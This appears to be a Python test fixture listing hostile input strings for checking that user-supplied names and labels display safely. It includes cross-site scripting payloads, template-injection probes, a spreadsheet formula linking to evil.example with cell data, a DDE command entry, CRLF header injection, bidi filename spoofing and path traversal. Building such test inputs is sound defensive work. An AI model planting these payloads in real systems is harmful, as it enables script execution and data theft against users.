"""Texts that clients may send as names, reasons, keys, labels and names of views, and that could do harm where they are shown."""

from typing import Final

PLAIN: Final = "Plain words"

LINES: Final = {
    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)></title></textarea><!--",
    "attribute": "\" autofocus onfocus=alert(1) x='y' `z` >",
    "entities": "&lt;b&gt; &quot; &#60;script&#62; &amp",
    "template": "{{ 7|add:7 }}{% now 'Y' %} ${7*7} %(name)s %s {0}",
    "scheme": "javascript:alert(1)//https://evil.example/",
    "bidi": "abc \u202egnp.exe\u202c \u2066left\u2069 \u2069\u202e open",
    "zero width": "a\u200bb\u200dc\u2060d\ufeffe\U000e0041",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"go")',
    "sign": "+1+cmd|' /C calc'!A1",
    "separators": 'a,b;c|d"e"\\N\\.',
    "percent": "%0d%0aSet-Cookie:%20x=1 %00 %2e%2e/../..",
    "long": "W" * 255,
    "stacked": "Z" + "\u0301" * 200,
}
"""Each in one line."""

BREAKS: Final = {
    "line break": "first\r\nSet-Cookie: x=1\r\n\r\n<mark>second</mark>",
    "control": "a\x1b[2J\x07\x08\x7f\x85\u2028b",
    "cell": "x\n=1+1\r@SUM(A1)\t-1",
}
"""With control characters, which keys and labels must not have."""

TEXTS: Final = {**LINES, **BREAKS}
